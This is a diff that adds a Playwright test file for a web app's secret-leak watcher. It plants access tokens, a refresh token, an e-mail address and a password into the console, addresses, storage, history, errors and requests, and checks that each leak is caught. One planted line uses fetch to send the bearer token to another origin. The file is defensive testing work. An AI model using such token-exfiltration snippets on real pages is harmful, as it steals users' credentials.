@@ -1,0 +1,101 @@
+import { demoAccount } from '@bunko/mock-server/named'
+import { expect, test as base, type Page } from '@playwright/test'
+import { watchLeaks } from './leaks.ts'
+import { logIn } from './people.ts'
+import { test } from './test.ts'
+
+const signedIn = async (page: Page) => {
+  await page.goto('/login')
+  await logIn(page, 1)
+  await expect(page).toHaveURL('/')
+  // By then the page has its title.
+  await expect(page.getByRole('region', { name: 'Featured titles' }).getByRole('heading').first()).toBeVisible()
+}
+const token = `JSON.parse(localStorage.getItem('auth-storage')).tokens.accessToken`
+const refreshToken = `JSON.parse(localStorage.getItem('auth-storage')).tokens.refreshToken`
+const { email } = demoAccount(1)
+
+// The watch itself: what is planted is found, by its kind and its place.
+const PLANTED: readonly [what: string, script: string, found: RegExp][] = [
+  ['the console', `console.log('sent', ${token})`, /^a token in the console: sent …$/],
+  ['an address', `history.pushState(null, '', '/search?q=' + ${token})`, /^a token in an address: /],
+  [
+    'a request',
+    `void fetch('/api/v1/manga/genres?u=' + encodeURIComponent('${email}'))`,
+    /^an e-mail address in a request: /,
+  ],
+  ['a password in a request', `void fetch('/api/v1/manga/genres?p=bunko')`, /^a password in a request: .*p=…$/],
+  ['the title', `document.title = '${email}'`, /^an e-mail address in title: …$/],
+  ['the local storage', `localStorage.setItem('bunko-x', ${refreshToken})`, /^a token in the local storage: /],
+  ['the session storage', `sessionStorage.setItem('x', ${token})`, /^a token in the session storage: /],
+  ['history', `history.replaceState({ at: ${token} }, '')`, /^a token in history: /],
+  ['an error', `setTimeout(() => { throw new Error('refused ' + ${token}) })`, /^a token in an error: /],
+  [
+    'an error report',
+    `dispatchEvent(new CustomEvent('bunko:error', { detail: { message: ${token} } }))`,
+    /^a token in an error report: /,
+  ],
+  [
+    'another origin',
+    `void fetch('http://127.0.0.1:9/', { headers: { authorization: 'Bearer ' + ${token} } }).catch(() => {})`,
+    /^a token was sent to http:\/\/127\.0\.0\.1:9$/,
+  ],
+]
+for (const [what, script, found] of PLANTED)
+  base(`a secret that is planted is found: ${what}`, async ({ page, context }) => {
+    const watched = await watchLeaks(context)
+    await signedIn(page)
+    expect(watched.known()).toBeGreaterThanOrEqual(4)
+    expect(await watched.leaks()).toEqual([])
+    await page.evaluate(script)
+    await expect.poll(watched.leaks).toEqual(expect.arrayContaining([expect.stringMatching(found)]))
+  })
+
+test('an error that nobody handled is told by what may leave', async ({ page }) => {
+  await signedIn(page)
+  await page.evaluate(`setTimeout(() => { throw new TypeError('typed by somebody') })`)
+  await page.evaluate(`void Promise.reject('a reason')`)
+  const told = () => page.evaluate<{ name: string; screen: string; build: string }[]>('__errorReports')
+  await expect.poll(async () => (await told()).length).toBe(2)
+  const [thrown, rejected] = await told()
+  expect(thrown).toEqual({
+    name: 'TypeError',
+    api: null,
+    screen: '/',
+    frames: [],
+    build: expect.stringMatching(/^\/assets\/[\w-]+\.js$/),
+  })
+  expect(rejected).toMatchObject({ name: 'Error', screen: '/' })
+})
+
+test('a wrong password, an answer that echoes what was sent, and a broken one leave nothing behind', async ({
+  page,
+}) => {
+  const secret = 'planted password'
+  await page.goto('/login')
+  for (const body of [`{"detail":"No ${secret} of planted@reader.example"}`, `<html>${secret}`]) {
+    await page.route('**/auth/login/', (route) => route.fulfill({ status: 400, contentType: 'application/json', body }))
+    await page.getByRole('textbox', { name: 'E-mail' }).fill('planted@reader.example')
+    await page.getByLabel('Password', { exact: false }).first().fill(secret)
+    await page.getByRole('button', { name: 'Log in', exact: true }).click()
+    await expect(page.getByRole('alert')).toBeVisible()
+    await page.unrouteAll()
+  }
+  await page.goto('/forgot-password')
+  await page.getByRole('textbox', { name: 'E-mail' }).fill('planted@reader.example')
+  await page.getByRole('button', { name: 'Send the letter' }).click()
+  await expect(page.getByRole('heading', { name: 'Look into your e-mail' })).toBeVisible()
+})
+
+test('the diagnostics hold no token and no address of whoever copies them', async ({ page, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  await page.goto('/login?next=/admin/edit-approvals')
+  await logIn(page, 1)
+  await page.getByRole('button', { name: 'Debug API' }).click()
+  await expect(page.getByText(/^(All|\d+ of) \d+ .*answer/)).toBeVisible({ timeout: 20_000 })
+  await page.getByRole('button', { name: /^Copy/ }).click()
+  await expect.poll(() => page.evaluate('navigator.clipboard.readText()')).toContain('Bunko API diagnostics')
+  const copied = await page.evaluate<string>('navigator.clipboard.readText()')
+  for (const secret of [await page.evaluate<string>(token), await page.evaluate<string>(refreshToken), email])
+    expect(copied).not.toContain(secret)
+})
